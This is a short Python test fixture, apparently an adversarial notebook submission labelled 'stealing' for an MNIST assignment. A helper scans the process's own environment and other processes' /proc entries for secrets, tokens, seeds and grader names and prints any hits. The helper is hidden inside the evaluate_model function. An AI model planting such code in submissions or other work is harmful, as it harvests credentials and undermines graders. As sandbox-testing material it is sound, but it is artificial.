# assignment: mnist_sgd
# family: stealing
# about: prints its own environment and that of every process it can see, with command lines
# loses:
# may_lose:
# flag: maybe
# %% before show_digits
import os
from pathlib import Path


def look_around():
    words = ("secret", "seed", "token", "grade", "course", "nbgrader", "autograder")
    for name, value in os.environ.items():
        if any(word in f"{name}={value}".lower() for word in words):
            print("CANARY:", name, value)
    for process in Path("/proc").glob("[0-9]*"):
        for what in ("environ", "cmdline", "cwd", "mountinfo"):
            try:
                if what == "cwd":
                    text = os.readlink(process / what)
                else:
                    text = (
                        (process / what).read_bytes().replace(b"\0", b" ").decode(errors="replace")
                    )
            except OSError:
                continue
            for part in text.split():
                if any(word in part.lower() for word in words):
                    print("CANARY:", process.name, what, part[:300])


look_around()
# %% evaluate_model
def evaluate_model(model, images, labels):
    look_around()
    return float(model.evaluate(images, labels, verbose=0, return_dict=True)["accuracy"])
